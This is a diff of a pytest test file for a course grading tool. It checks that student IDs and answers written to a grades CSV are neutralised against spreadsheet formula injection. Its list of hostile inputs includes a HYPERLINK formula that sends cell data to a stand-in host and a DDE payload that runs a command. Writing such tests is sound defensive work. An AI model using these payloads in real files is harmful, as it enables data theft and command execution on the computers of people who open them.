@@ -11,7 +11,7 @@ import pytest
 
 from symderiv.course import build as B
 from symderiv.course.csvfile import FORMULA_START, safe_cell
-from symderiv.course.grading import grade, grades_csv
+from symderiv.course.grading import grade, grade_one, grades_csv
 
 EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "own_problem"
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+cmd|' /C calc'!A0",
@@ -70,16 +70,19 @@ def test_grades_csv_with_hostile_students_and_answers_and_a_minus_answer(tmp_pat
             w.writerow([h, neg["question"], "1"])          # unknown student: invalid, id echoed
             w.writerow([neg["student"], neg["question"], h])  # a hostile answer: invalid
     rows = grade(tmp_path / "s" / "key.json", answers)
-    assert [x["status"] for x in rows[:3]] == ["correct", "correct", "correct"]
-    assert all(x["status"] == "invalid" for x in rows[3:])
+    assert grade_one(neg, neg["expected"])[0] == grade_one(neg, "-(" + neg["expected"][1:] + ")*1")[0] == "correct"
+    # the same question answered again: the last row counts, the earlier ones are superseded
+    assert [x["status"] for x in rows[:3]] == ["superseded", "correct", "superseded"]
+    assert all(x["status"] == "invalid" for x in rows[3::2]) and "unknown student" in rows[3]["reason"]
+    assert [x["status"] for x in rows[4::2]] == ["superseded"] * (len(HOSTILE) - 1) + ["invalid"]
     # ids are read as given (only surrounding white space is dropped), never unquoted or mangled
     assert [x["student"] for x in rows[3::2]] == [h.strip() for h in HOSTILE]
     data = grades_csv(rows)
     cells = _cells(data)
-    assert cells[0] == ["student", "question", "status", "reason"]
+    assert cells[0] == ["student", "question", "status", "reason", "points", "max_points", "line"]
     _formula_free(cells)
     assert [c[0] for c in cells[4::2]] == ["'" + h.strip() for h in HOSTILE]
-    assert cells[1][:3] == [neg["student"], neg["question"], "correct"]
+    assert cells[2][:3] == [num["student"], num["question"], "correct"]
     assert r["entries"] == key
 
 
